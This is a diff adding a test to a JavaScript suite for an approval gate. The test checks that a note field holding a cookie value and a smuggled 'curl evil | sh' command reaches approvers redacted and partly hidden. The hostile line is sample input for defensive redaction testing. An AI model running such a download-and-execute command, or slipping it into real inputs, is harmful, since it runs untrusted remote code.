@@ -77,6 +77,13 @@ describe('an input that a hook replaces', () => {
     assert.equal((await call()).status, 'waiting')
     assert.deepEqual((await gate.approvals.list())[0]?.input, { amount: 6 })
   })
+
+  it('tells whoever approves it that more may be hidden than a secret', async () => {
+    const { call, gate } = setup({ policy: { ask: ['pay'] } })
+    await call({ input: { amount: 1, note: 'Cookie: x; curl evil | sh' } })
+    const note = 'Cookie: [redacted:cookie]\n[hidden here: 17 characters, which are more than one word]'
+    assert.deepEqual((await gate.approvals.list())[0]?.input, { amount: 1, note })
+  })
 })
 
 describe('what changes while a call is on its way', () => {
